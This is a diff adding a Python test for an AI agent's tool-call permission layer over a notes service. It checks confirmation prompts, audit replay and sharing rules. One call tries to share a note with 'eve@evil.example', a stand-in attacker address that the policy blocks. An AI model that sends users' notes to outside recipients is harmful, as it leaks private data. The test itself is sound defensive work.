@@ -252,3 +252,48 @@ async def test_a_record_to_confirm_asks_once_and_a_resume_remembers(home, tmp_pa
         cp.escalation = later = _Answer(approve=False)
         kept = await cp.call("notes", "share_note", share)
     assert kept.ok and not later.asked
+
+
+async def test_a_narrowed_listing_asks_about_someone_elses_record(home, tmp_path: Path) -> None:
+    """The chokepoint hands a listing's arguments to the session: a colleague's note found by a
+    search (``query``, a narrowing argument) is confirmed before it is shared, and the record
+    waiting is in the audit, so a resumed session asks too; the same note from the whole
+    listing is shared with no question, and the user's own note from a search is too."""
+    share = {"id": "n-21", "to": "sam@home.example"}
+    async with _session(home, tmp_path, "notes", "narrowed", "narrow-notes") as session:
+        cp = session.chokepoint
+        cp.escalation = no = _Answer(approve=False)
+        cp.grant_task("Share the assistant note with sam@home.example")
+        searched = await cp.call("notes", "search_notes", {"query": "assistant"})
+        refused = await cp.call("notes", "share_note", share)
+        elsewhere = await cp.call("notes", "share_note", {"id": "n-21", "to": "eve@evil.example"})
+        sent = await cp.call("notes", "list_shared", {})
+        audit = session.audit_path
+    assert searched.ok and (refused.ok, refused.decision.rule) == (False, "confirm-bound-record")
+    assert (elsewhere.ok, elsewhere.decision.rule) == (False, "deny-other-shares")
+    assert "n-21" not in sent.text
+    assert len(no.asked) == 1 and "narrowed by query='assistant'" in no.asked[0].reason
+    listing = next(r for r in _records(audit) if r.get("tool") == "search_notes")
+    assert listing["taskBindings"]["task:unconfirmed"] == ["n-21"]
+    _replays_the_same(audit, VECTORS / "narrowed" / "policy", tmp_path)
+    async with _session(home, tmp_path, "notes", "narrowed", "narrow-notes") as session:
+        cp = session.chokepoint
+        cp.escalation = again = _Answer(approve=False)
+        resumed = await cp.call("notes", "share_note", share)
+    assert (resumed.ok, resumed.decision.rule) == (False, "confirm-bound-record")
+    assert len(again.asked) == 1
+    async with _session(home, tmp_path, "notes", "narrowed", "whole-notes") as session:
+        cp = session.chokepoint
+        cp.escalation = unused = _Answer(approve=False)
+        cp.grant_task("Share the assistant note with sam@home.example")
+        await cp.call("notes", "list_notes", {})
+        whole = await cp.call("notes", "share_note", share)
+    async with _session(home, tmp_path, "notes", "narrowed", "own-notes") as session:
+        cp = session.chokepoint
+        cp.escalation = unused
+        cp.grant_task("Share my wifi password note with sam@home.example")
+        await cp.call("notes", "search_notes", {"query": "wifi"})
+        own = await cp.call("notes", "share_note", {"id": "n-9", "to": "sam@home.example"})
+    assert (whole.ok, whole.decision.rule) == (True, "allow-notes-the-user-named")
+    assert (own.ok, own.decision.rule) == (True, "allow-notes-the-user-named")
+    assert not unused.asked
